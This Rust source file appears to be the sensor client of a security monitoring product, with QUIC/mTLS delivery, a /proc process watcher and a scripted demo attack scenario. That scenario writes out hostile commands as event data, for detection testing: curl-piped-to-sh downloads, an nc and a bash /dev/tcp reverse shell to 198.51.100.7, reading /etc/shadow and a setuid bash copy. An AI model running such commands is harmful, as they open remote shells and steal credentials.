//! The reference sensor: QUIC + mTLS client with an unacknowledged-frame buffer, a `/proc`
//! process watcher and a scripted demo attack scenario.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use tokio::sync::mpsc;
use tracing::{error, info, warn};
use vedette_schemas::frame::{
    self, Control, Encoding, Goodbye, HEADER_LEN, Heartbeat, Hello, PROTOCOL_VERSION, Welcome, close_code,
};

/// Frames kept unacknowledged at most; beyond it the sensor stops reading events.
pub const MAX_UNACKED_FRAMES: usize = 4096;

/// Errors of the sensor client.
#[derive(Debug, thiserror::Error)]
pub enum SensorError {
    /// TLS material could not be loaded.
    #[error(transparent)]
    Tls(#[from] vedette_actors::ActorError),
    /// A file could not be read.
    #[error("{path}: {source}")]
    Io {
        /// File.
        path: String,
        /// OS error.
        #[source]
        source: std::io::Error,
    },
    /// The connection failed or was refused.
    #[error("connection: {0}")]
    Connection(String),
    /// The engine answered something unexpected.
    #[error("protocol: {0}")]
    Protocol(String),
    /// The engine refused this sensor in a way retrying will not fix (revoked or untrusted
    /// certificate, identity or tenant mismatch): fix the certificate or enroll again.
    #[error("refused: {message}")]
    Refused {
        /// What the engine (or the TLS handshake) said.
        message: String,
        /// Revoked: the sensor stops instead of retrying.
        revoked: bool,
    },
}

/// A refusal that retrying with the same certificate will not fix, read from how the
/// connection was closed.
pub fn refusal(e: &quinn::ConnectionError) -> Option<SensorError> {
    let refused = |message: &str, revoked: bool| Some(SensorError::Refused { message: message.into(), revoked });
    let tls_alert = |code: u64| match code.checked_sub(0x100)? {
        42 => Some("the engine refused this sensor's certificate (bad certificate)"),
        44 => Some("the engine refused this sensor's certificate: it is revoked"),
        45 => Some("the engine refused this sensor's certificate: it expired"),
        46 => Some("the engine refused this sensor's certificate (certificate unknown)"),
        48 => Some("unknown CA: the certificate's issuer is not trusted (check --ca and the engine's fleet CA)"),
        49 => Some("the engine refused this sensor's certificate (access denied)"),
        116 => Some("the engine requires a client certificate"),
        _ => None,
    };
    match e {
        quinn::ConnectionError::ConnectionClosed(c) => {
            let code = u64::from(c.error_code);
            tls_alert(code).and_then(|m| refused(m, code == 0x100 + 44))
        }
        quinn::ConnectionError::TransportError(t) => tls_alert(u64::from(t.code)).and_then(|m| refused(m, false)),
        quinn::ConnectionError::ApplicationClosed(c) => {
            let reason = String::from_utf8_lossy(&c.reason).into_owned();
            match u32::try_from(c.error_code.into_inner()).unwrap_or(u32::MAX) {
                close_code::REVOKED => refused(&format!("revoked: {reason}"), true),
                close_code::REFUSED | close_code::IDENTITY_MISMATCH | close_code::UNSUPPORTED_VERSION => {
                    refused(&reason, false)
                }
                _ => None,
            }
        }
        _ => None,
    }
}

/// The error of a failed connection step: a refusal if the connection was closed as one.
fn connection_error(conn: Option<&quinn::Connection>, e: &dyn std::fmt::Display) -> SensorError {
    conn.and_then(quinn::Connection::close_reason)
        .and_then(|r| refusal(&r))
        .unwrap_or_else(|| SensorError::Connection(e.to_string()))
}

/// Where and how to connect.
#[derive(Debug, Clone)]
pub struct SensorConfig {
    /// Engine QUIC address.
    pub server: SocketAddr,
    /// Name in the engine's certificate.
    pub server_name: String,
    /// Fleet CA (PEM).
    pub ca: PathBuf,
    /// Sensor certificate (PEM).
    pub cert: PathBuf,
    /// Sensor key (PEM).
    pub key: PathBuf,
    /// Host name sent in HELLO.
    pub host: String,
    /// Flush buffered rows into a frame after this long.
    pub linger: Duration,
}

/// One telemetry row for a table.
#[derive(Debug, Clone)]
pub struct Event {
    /// Table name.
    pub table: String,
    /// Row as a JSON object.
    pub row: Value,
}

/// Counters a caller can watch.
#[derive(Debug, Default)]
pub struct SensorStats {
    /// Frames sent (resends included).
    pub frames_sent: AtomicU64,
    /// Frames acknowledged.
    pub frames_acked: AtomicU64,
    /// Rows rejected by the engine.
    pub rows_rejected: AtomicU64,
    /// Connections established.
    pub connections: AtomicU64,
    /// Errors reported by the engine (code: message).
    pub errors: Mutex<Vec<String>>,
}

/// An established session: connection, control stream and the engine's WELCOME.
pub struct Session {
    /// The QUIC connection.
    pub conn: quinn::Connection,
    /// Control stream, sensor → engine.
    pub ctrl_send: quinn::SendStream,
    /// Control stream, engine → sensor.
    pub ctrl_recv: quinn::RecvStream,
    /// The engine's answer to HELLO.
    pub welcome: Welcome,
}

fn read_file(p: &PathBuf) -> Result<Vec<u8>, SensorError> {
    std::fs::read(p).map_err(|source| SensorError::Io { path: p.display().to_string(), source })
}

/// Opens a client endpoint configured with the sensor's certificate.
pub fn endpoint(cfg: &SensorConfig) -> Result<quinn::Endpoint, SensorError> {
    let (ca, cert, key) = (read_file(&cfg.ca)?, read_file(&cfg.cert)?, read_file(&cfg.key)?);
    let client = vedette_actors::tls::client_config(&ca, Some((&cert, &key)), frame::ALPN)?;
    let bind: SocketAddr = if cfg.server.is_ipv6() { "[::]:0" } else { "0.0.0.0:0" }.parse().expect("valid address");
    let mut ep = quinn::Endpoint::client(bind).map_err(|e| SensorError::Connection(e.to_string()))?;
    ep.set_default_client_config(client);
    Ok(ep)
}

/// Reads one control frame.
pub async fn read_control(recv: &mut quinn::RecvStream) -> Result<Control, SensorError> {
    let mut header = [0u8; HEADER_LEN];
    recv.read_exact(&mut header).await.map_err(|e| SensorError::Connection(e.to_string()))?;
    let (len, ty) = frame::parse_header(header, u32::MAX).map_err(|e| SensorError::Protocol(e.to_string()))?;
    let mut body = vec![0u8; len];
    recv.read_exact(&mut body).await.map_err(|e| SensorError::Connection(e.to_string()))?;
    Control::decode(ty, &body).map_err(|e| SensorError::Protocol(e.to_string()))
}

/// Connects, sends HELLO and waits for WELCOME.
pub async fn connect(ep: &quinn::Endpoint, cfg: &SensorConfig, hello: Hello) -> Result<Session, SensorError> {
    let conn = ep
        .connect(cfg.server, &cfg.server_name)
        .map_err(|e| SensorError::Connection(e.to_string()))?
        .await
        .map_err(|e| refusal(&e).unwrap_or_else(|| SensorError::Connection(e.to_string())))?;
    let (mut ctrl_send, mut ctrl_recv) = conn.open_bi().await.map_err(|e| connection_error(Some(&conn), &e))?;
    ctrl_send.write_all(&Control::Hello(hello).to_frame()).await.map_err(|e| connection_error(Some(&conn), &e))?;
    let answer = match read_control(&mut ctrl_recv).await {
        Ok(a) => a,
        Err(e) => {
            // A refusal closes the connection right after its explanation (or instead of it).
            let _ = tokio::time::timeout(Duration::from_millis(200), conn.closed()).await;
            return Err(connection_error(Some(&conn), &e));
        }
    };
    match answer {
        Control::Welcome(welcome) => Ok(Session { conn, ctrl_send, ctrl_recv, welcome }),
        Control::Error(e)
            if ["revoked", "tenant_mismatch", "identity_mismatch", "unsupported_version"]
                .contains(&e.code.as_str()) =>
        {
            Err(SensorError::Refused { message: format!("{}: {}", e.code, e.message), revoked: e.code == "revoked" })
        }
        Control::Error(e) => Err(SensorError::Protocol(format!("{}: {}", e.code, e.message))),
        other => Err(SensorError::Protocol(format!("expected WELCOME, got {other:?}"))),
    }
}

/// The sensor's delivery state, kept across reconnects.
struct Outbox {
    unacked: BTreeMap<u64, Vec<u8>>,
    next_seq: u64,
    pending: HashMap<String, Vec<u8>>,
    pending_rows: HashMap<String, u32>,
}

impl Outbox {
    fn hello(&self, host: &str) -> Hello {
        let low_seq = self.unacked.keys().next().copied().unwrap_or(self.next_seq);
        Hello {
            protocol: PROTOCOL_VERSION,
            sensor_version: format!("vedette-sensor/{}", env!("CARGO_PKG_VERSION")),
            host: Some(host.to_string()),
            sensor_id: None,
            schemas: BTreeMap::new(),
            low_seq,
        }
    }

    fn ack(&mut self, seq: u64, through: u64) {
        self.unacked.remove(&seq);
        self.unacked = self.unacked.split_off(&(through + 1));
    }

    fn push_row(&mut self, ev: &Event) -> bool {
        let buf = self.pending.entry(ev.table.clone()).or_default();
        serde_json::to_writer(&mut *buf, &ev.row).expect("JSON values serialize");
        buf.push(b'\n');
        let rows = self.pending_rows.entry(ev.table.clone()).or_default();
        *rows += 1;
        *rows >= 2048 || buf.len() >= 1 << 20
    }

    /// Turns buffered rows into frames; returns the encoded frames to send.
    fn seal(&mut self) -> Vec<u8> {
        let mut out = Vec::new();
        let mut tables: Vec<_> = self.pending.drain().collect();
        tables.sort_by(|a, b| a.0.cmp(&b.0));
        self.pending_rows.clear();
        for (table, payload) in tables {
            let mut f = Vec::with_capacity(payload.len() + 32);
            frame::encode_data(&mut f, Encoding::Ndjson, self.next_seq, &table, &payload);
            out.extend_from_slice(&f);
            self.unacked.insert(self.next_seq, f);
            self.next_seq += 1;
        }
        out
    }
}

/// Longest wait between attempts after the engine refused the sensor (other than revoked).
const REFUSED_BACKOFF_MAX: Duration = Duration::from_secs(60);

/// Runs the sensor until `events` is closed and every frame is acknowledged. Reconnects with
/// backoff and resends unacknowledged frames after each reconnect. Stops with an error when
/// the engine revoked the sensor; other refusals are retried slowly.
pub async fn run(
    cfg: SensorConfig,
    mut events: mpsc::Receiver<Event>,
    stats: Arc<SensorStats>,
) -> Result<(), SensorError> {
    let ep = endpoint(&cfg)?;
    let mut out =
        Outbox { unacked: BTreeMap::new(), next_seq: 0, pending: HashMap::new(), pending_rows: HashMap::new() };
    let mut closed = false;
    let mut backoff = Duration::from_millis(100);
    loop {
        let session = match connect(&ep, &cfg, out.hello(&cfg.host)).await {
            Ok(s) => s,
            Err(SensorError::Refused { message, revoked: true }) => {
                return Err(SensorError::Refused { message, revoked: true });
            }
            Err(e @ SensorError::Refused { .. }) => {
                // Retrying hot will not help: say so, and wait long between attempts.
                backoff = backoff.max(Duration::from_secs(5));
                error!(error = %e, retry_in_s = backoff.as_secs(), "The engine refused this sensor.");
                tokio::time::sleep(backoff).await;
                backoff = (backoff * 2).min(REFUSED_BACKOFF_MAX);
                continue;
            }
            Err(e) => {
                warn!(error = %e, retry_in_ms = backoff.as_millis() as u64, "Cannot reach the engine, retrying.");
                tokio::time::sleep(backoff).await;
                backoff = (backoff * 2).min(Duration::from_secs(5));
                continue;
            }
        };
        backoff = Duration::from_millis(100);
        stats.connections.fetch_add(1, Ordering::Relaxed);
        let w = &session.welcome;
        info!(sensor = %w.sensor_id, tenant = %w.tenant, acked_through = w.acked_through, "Connected to engine.");
        out.ack(0, w.acked_through);
        if out.next_seq == 0 {
            out.next_seq = w.highest_seq + 1;
        }
        let conn = session.conn.clone();
        match pump(&cfg, session, &mut out, &mut events, &mut closed, &stats).await {
            Ok(()) => {
                // Let the close reach the engine before the process may exit.
                let _ = tokio::time::timeout(Duration::from_secs(2), ep.wait_idle()).await;
                return Ok(());
            }
            Err(e) => match conn.close_reason().and_then(|r| refusal(&r)) {
                Some(r @ SensorError::Refused { revoked: true, .. }) => return Err(r),
                _ => warn!(error = %e, unacked = out.unacked.len(), "Session lost; reconnecting and resending."),
            },
        }
    }
}

async fn pump(
    cfg: &SensorConfig,
    mut s: Session,
    out: &mut Outbox,
    events: &mut mpsc::Receiver<Event>,
    closed: &mut bool,
    stats: &SensorStats,
) -> Result<(), SensorError> {
    let conn_err = |e: &dyn std::fmt::Display| SensorError::Connection(e.to_string());
    let mut data = s.conn.open_uni().await.map_err(|e| conn_err(&e))?;
    let resend: Vec<u8> = out.unacked.values().flatten().copied().collect();
    if !resend.is_empty() {
        stats.frames_sent.fetch_add(out.unacked.len() as u64, Ordering::Relaxed);
        data.write_all(&resend).await.map_err(|e| conn_err(&e))?;
    }
    let mut linger = tokio::time::interval(cfg.linger);
    let mut heartbeat = tokio::time::interval(Duration::from_millis(s.welcome.heartbeat_interval_ms.max(100)));
    let (ctrl_tx, mut ctrl_rx) = mpsc::channel(64);
    let mut recv = s.ctrl_recv;
    let reader = tokio::spawn(async move {
        loop {
            let msg = read_control(&mut recv).await;
            let stop = msg.is_err();
            if ctrl_tx.send(msg).await.is_err() || stop {
                break;
            }
        }
    });
    let _reader = AbortOnDrop(reader);
    loop {
        if *closed && out.pending.is_empty() && out.unacked.is_empty() {
            let _ = s.ctrl_send.write_all(&Control::Goodbye(Goodbye { reason: "done".into() }).to_frame()).await;
            let _ = data.finish();
            let _ = s.ctrl_send.finish();
            let _ = tokio::time::timeout(Duration::from_secs(1), data.stopped()).await;
            s.conn.close(0u32.into(), b"done");
            return Ok(());
        }
        tokio::select! {
            ev = events.recv(), if !*closed && out.unacked.len() < MAX_UNACKED_FRAMES => match ev {
                Some(ev) => {
                    if out.push_row(&ev) {
                        send(&mut data, out, stats).await?;
                    }
                }
                None => {
                    *closed = true;
                    send(&mut data, out, stats).await?;
                }
            },
            _ = linger.tick() => send(&mut data, out, stats).await?,
            _ = heartbeat.tick() => {
                let hb = Control::Heartbeat(Heartbeat { ts: chrono::Utc::now().timestamp_micros() });
                s.ctrl_send.write_all(&hb.to_frame()).await.map_err(|e| conn_err(&e))?;
            }
            msg = ctrl_rx.recv() => match msg {
                Some(Ok(Control::Ack(a))) => {
                    stats.frames_acked.fetch_add(1, Ordering::Relaxed);
                    out.ack(a.seq, a.through);
                }
                Some(Ok(Control::RowErrors(r))) => {
                    stats.rows_rejected.fetch_add(r.rejected.into(), Ordering::Relaxed);
                    for e in r.errors.iter().take(5) {
                        warn!(seq = r.seq, table = %r.table, row = e.row, column = ?e.column, reason = %e.reason, "Row rejected by the engine.");
                    }
                }
                Some(Ok(Control::Error(e))) => {
                    warn!(code = %e.code, seq = ?e.seq, message = %e.message, "Engine reported an error.");
                    stats.errors.lock().expect("not poisoned").push(format!("{}: {}", e.code, e.message));
                }
                Some(Ok(_)) => {}
                Some(Err(e)) => return Err(e),
                None => return Err(SensorError::Connection("control stream closed".into())),
            },
        }
    }
}

async fn send(data: &mut quinn::SendStream, out: &mut Outbox, stats: &SensorStats) -> Result<(), SensorError> {
    let bytes = out.seal();
    if bytes.is_empty() {
        return Ok(());
    }
    stats.frames_sent.fetch_add(1, Ordering::Relaxed);
    data.write_all(&bytes).await.map_err(|e| SensorError::Connection(e.to_string()))
}

struct AbortOnDrop(tokio::task::JoinHandle<()>);

impl Drop for AbortOnDrop {
    fn drop(&mut self) {
        self.0.abort();
    }
}

/// The scripted attack scenario of `vedette sensor --demo`: benign activity plus one event
/// for every built-in rule, stamped `now_us` (µs since epoch) onward.
pub fn demo_scenario(host: &str, now_us: i64) -> Vec<Event> {
    let mut t = now_us;
    let mut next = |table: &str, mut row: Value| {
        t += 1_000;
        row["ts"] = json!(t);
        row["host"] = json!(host);
        Event { table: table.into(), row }
    };
    let proc_ = |exe: &str, cmd: &str, user: &str, parent: &str| {
        json!({"event_type": "start", "pid": 4000 + cmd.len() as i64, "ppid": 812, "uid": if user == "root" { 0 } else { 1000 },
               "user": user, "exe": exe, "cmdline": cmd, "cwd": "/home/dev", "parent_exe": parent,
               "parent_cmdline": parent.rsplit('/').next().unwrap_or(parent)})
    };
    let mut events = vec![
        next("process_events", proc_("/usr/bin/ls", "ls -la", "dev", "/usr/bin/bash")),
        next(
            "auth_events",
            json!({"user": "dev", "src_ip": "192.0.2.10", "service": "ssh", "method": "publickey", "outcome": "success"}),
        ),
        next(
            "file_events",
            json!({"pid": 612, "exe": "/usr/sbin/sshd", "user": "root", "uid": 0, "action": "read", "path": "/etc/shadow"}),
        ),
        next(
            "process_events",
            proc_("/usr/bin/curl", "curl -fsSL http://198.51.100.7/x.sh -o /tmp/x.sh", "dev", "/usr/bin/bash"),
        ),
    ];
    // A brute force two minutes ago (its one-minute window is long closed by the events that
    // follow at `now`, so the windowed rule fires right away).
    let two_minutes_ago = (now_us - 120_000_000).div_euclid(60_000_000) * 60_000_000;
    for i in 0..6 {
        let mut row = json!({"user": "admin", "src_ip": "203.0.113.9", "service": "ssh", "method": "password", "outcome": "failure", "host": host});
        row["ts"] = json!(two_minutes_ago + i * 2_000_000);
        events.push(Event { table: "auth_events".into(), row });
    }
    events.extend([
        next("auth_events", json!({"user": "root", "src_ip": "203.0.113.9", "service": "ssh", "method": "password", "outcome": "success"})),
        next("process_events", proc_("/usr/bin/bash", "bash -c curl -fsSL http://198.51.100.7/stage2.sh | sh", "www-data", "/usr/sbin/apache2")),
        next("process_events", proc_("/usr/bin/nc.traditional", "nc -e /bin/sh 198.51.100.7 4444", "www-data", "/usr/bin/bash")),
        next("network_events", json!({"pid": 4100, "exe": "/usr/bin/nc.traditional", "user": "www-data", "direction": "outbound", "protocol": "tcp",
            "src_ip": "10.0.0.5", "src_port": 51234, "dst_ip": "198.51.100.7", "dst_port": 4444})),
        next("process_events", proc_("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "www-data", "/usr/bin/python3")),
        next("process_events", proc_("/usr/bin/cat", "cat /etc/shadow", "root", "/usr/bin/bash")),
        next("file_events", json!({"pid": 4200, "exe": "/usr/bin/python3", "user": "www-data", "uid": 33, "action": "read", "path": "/etc/shadow"})),
        next("process_events", proc_("/usr/bin/cp", "cp /usr/bin/bash /tmp/.x/bash", "root", "/usr/bin/bash")),
        next("process_events", proc_("/usr/bin/chmod", "chmod u+s /tmp/.x/bash", "root", "/usr/bin/bash")),
        next("file_events", json!({"pid": 4300, "exe": "/usr/bin/chmod", "user": "root", "uid": 0, "action": "chmod", "path": "/tmp/.x/bash", "mode": 0o4755})),
    ]);
    events
}

/// Polls `/proc` and emits a `process_events` start row for every new process.
pub async fn watch_proc(host: String, tx: mpsc::Sender<Event>, every: Duration) {
    let users = read_users();
    let mut seen: HashSet<u32> = list_pids().into_iter().collect();
    loop {
        tokio::time::sleep(every).await;
        let now = list_pids();
        for pid in &now {
            if seen.contains(pid) {
                continue;
            }
            if let Some(row) = describe_process(*pid, &users, &host)
                && tx.send(Event { table: "process_events".into(), row }).await.is_err()
            {
                return;
            }
        }
        seen = now.into_iter().collect();
    }
}

fn list_pids() -> Vec<u32> {
    std::fs::read_dir("/proc")
        .map(|d| d.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok()).collect())
        .unwrap_or_default()
}

fn read_users() -> HashMap<i64, String> {
    std::fs::read_to_string("/etc/passwd")
        .unwrap_or_default()
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            Some((f.get(2)?.parse().ok()?, f.first()?.to_string()))
        })
        .collect()
}

fn proc_info(pid: u32) -> Option<(String, String, String, i64, i64)> {
    let base = format!("/proc/{pid}");
    let cmdline = std::fs::read(format!("{base}/cmdline")).ok()?;
    let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ").trim().to_string();
    let exe = std::fs::read_link(format!("{base}/exe")).map(|p| p.display().to_string()).unwrap_or_default();
    let cwd = std::fs::read_link(format!("{base}/cwd")).map(|p| p.display().to_string()).unwrap_or_default();
    let status = std::fs::read_to_string(format!("{base}/status")).ok()?;
    let field = |name: &str| {
        status.lines().find_map(|l| l.strip_prefix(name)).and_then(|v| v.split_whitespace().next()?.parse::<i64>().ok())
    };
    Some((exe, cmdline, cwd, field("PPid:").unwrap_or(0), field("Uid:").unwrap_or(-1)))
}

fn describe_process(pid: u32, users: &HashMap<i64, String>, host: &str) -> Option<Value> {
    let (exe, cmdline, cwd, ppid, uid) = proc_info(pid)?;
    let (parent_exe, parent_cmdline) =
        u32::try_from(ppid).ok().and_then(proc_info).map(|(e, c, ..)| (e, c)).unwrap_or_default();
    Some(json!({
        "ts": chrono::Utc::now().timestamp_micros(), "host": host, "event_type": "start",
        "pid": pid, "ppid": ppid, "uid": uid, "user": users.get(&uid),
        "exe": exe, "cmdline": cmdline, "cwd": cwd, "parent_exe": parent_exe, "parent_cmdline": parent_cmdline,
    }))
}
